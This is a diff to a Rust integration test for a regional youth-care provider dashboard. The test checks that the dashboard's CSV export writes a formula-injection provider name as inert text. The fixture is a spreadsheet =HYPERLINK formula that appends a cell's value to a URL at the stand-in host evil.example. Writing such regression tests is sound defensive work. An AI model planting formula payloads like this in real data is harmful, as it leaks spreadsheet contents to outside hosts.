@@ -392,6 +392,14 @@ async fn contract_managers_see_their_own_region_on_the_dashboard_and_can_export_
     );
     let kompas = provider(&app, "De Kompas", "a@kompas.example", 25).await;
     provider(&app, "Het Anker", "b@anker.example", 9).await;
+    // A name from before registration refused formulas: the export writes it as text.
+    provider(
+        &app,
+        "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Klik hier\")",
+        "c@formule.example",
+        25,
+    )
+    .await;
     // The funnels the dashboard reads, refreshed now rather than by the job runner's round.
     jeugdhulpcatalogus::outcomes::fair::refresh_stale(&mut app.conn()).expect("refresh");
 
@@ -435,6 +443,11 @@ async fn contract_managers_see_their_own_region_on_the_dashboard_and_can_export_
     for column in ["regiogemiddelde", "trechter_95_laag", "trechter_95_hoog", "vergeleken"] {
         assert!(header.contains(&column), "{column}: {header:?}");
     }
+    assert!(
+        csv.lines()
+            .any(|l| l.starts_with("\"'=HYPERLINK(\"\"http://evil.example/")),
+        "a formula is written as text: {csv}"
+    );
     let kompas_row: Vec<&str> = csv
         .lines()
         .find(|l| l.starts_with("De Kompas;"))
@@ -448,7 +461,7 @@ async fn contract_managers_see_their_own_region_on_the_dashboard_and_can_export_
     );
     // One regiogemiddelde: the page's is the export's (the funnel's target over the providers
     // with at least 10 trajectories, 60% here; the plain average with Het Anker's 9 would be
-    // 20 of 34, 59%).
+    // 35 of 59, 59%).
     let page_reference = page
         .split("Regiogemiddelde: <strong>")
         .nth(1)
